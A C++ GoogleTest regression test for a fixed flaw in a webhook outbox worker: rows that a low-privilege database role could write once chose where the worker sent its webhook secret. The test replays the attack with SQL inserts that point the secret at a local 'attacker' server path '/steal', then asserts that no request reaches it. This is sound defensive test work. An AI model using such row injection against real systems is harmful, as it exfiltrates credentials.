// Issue 18, finding 4: webhook outbox rows carried their URL, auth style and
// secret reference, and chime_worker may INSERT rows, so a login holding only
// that role wrote a row that made a worker send the Standard Webhooks key (or
// a Bearer secret) to a server of the login's choice. The row must only name
// a target, resolved by the worker from its own kinds file.
//
// Written against the kinds file, the registered handlers, the job harness
// and SQL, so it runs against the code before the fix (where the attacker's
// server got the secret) and after.
#include <gtest/gtest.h>
#include <pqxx/pqxx>
#include <stdlib.h>

#include "tests/support/http_test_server.h"
#include "tests/support/test_database.h"
#include "tests/worker/kinds/job_harness.h"
#include "worker/kinds/app_config.h"
#include "worker/kinds/register.h"

namespace chime::worker::kinds {
namespace {

using nlohmann::json;

constexpr char kSecretEnv[] = "CHIME_TEST_OUTBOX_TARGET_SECRET";
constexpr char kSecret[] = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";

class OutboxTargetTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ::setenv(kSecretEnv, kSecret, 1);
    auto config = ParseAppConfig(std::string("http:\n  allow: [127.0.0.0/8]\n") +
                                 "capacity_webhook:\n  url: \"" + legit_.Url("/hooks/capacity") + "\"\n" +
                                 "  secret: env:" + kSecretEnv + "\n  auth: standard-webhooks\n");
    ASSERT_TRUE(config.has_value()) << config.error().message;
    ASSERT_TRUE(RegisterAppKinds(registry_, *config).has_value());
  }

  // Runs `sql` as the chime_worker role; false when the database refused it.
  bool AsWorker(const std::string& sql) {
    try {
      pqxx::connection c(db_.url());
      pqxx::work tx(c);
      tx.exec("SET LOCAL ROLE chime_worker");
      tx.exec(sql);
      tx.commit();
      return true;
    } catch (const std::exception&) {
      return false;
    }
  }

  chime::testing::TestDatabase db_;
  testing::JobHarness harness_{db_};  // Migrates: the chime_worker role exists from here.
  HandlerRegistry registry_;
  chime::testing::HttpTestServer legit_{"127.0.0.1"};
  chime::testing::HttpTestServer attacker_{"127.0.0.2"};
};

TEST_F(OutboxTargetTest, ARowWrittenByTheWorkerRoleCannotSendTheSecretElsewhere) {
  // The attack as it worked: the row says where to send and with which secret.
  for (const char* auth : {"standard-webhooks", "bearer"}) {
    (void)AsWorker(std::string("INSERT INTO chime.webhook_outbox (webhook_id, event_type, url, auth, secret_ref, "
                               "timeout_ms, body) VALUES ('wh_evil_") + auth + "', 'x', '" +
                   attacker_.Url("/steal") + "', '" + auth + "', 'env:" + kSecretEnv + "', 5000, '{}')");
  }
  // What the role may still write: a row naming a target. The worker's kinds
  // file has no target "attacker"; capacity_webhook goes where the file says.
  (void)AsWorker("INSERT INTO chime.webhook_outbox (webhook_id, event_type, target, timeout_ms, body) "
                 "VALUES ('wh_unknown', 'x', 'attacker', 5000, '{}')");
  (void)AsWorker("INSERT INTO chime.webhook_outbox (webhook_id, event_type, target, timeout_ms, body) "
                 "VALUES ('wh_capacity', 'x', 'capacity_webhook', 5000, '{}')");

  Handler* deliver = registry_.Find("deliver_webhooks");
  ASSERT_NE(deliver, nullptr);
  (void)harness_.Run(*deliver, {{"sweep", true}});

  EXPECT_EQ(attacker_.Connections(), 0) << "a row chose where the webhook secret went";
  for (const auto& request : legit_.Requests()) {
    EXPECT_EQ(request.path, "/hooks/capacity");
    EXPECT_EQ(request.Header("webhook-id"), "wh_capacity");
  }
  EXPECT_LE(legit_.Requests().size(), 1u);
}

}  // namespace
}  // namespace chime::worker::kinds
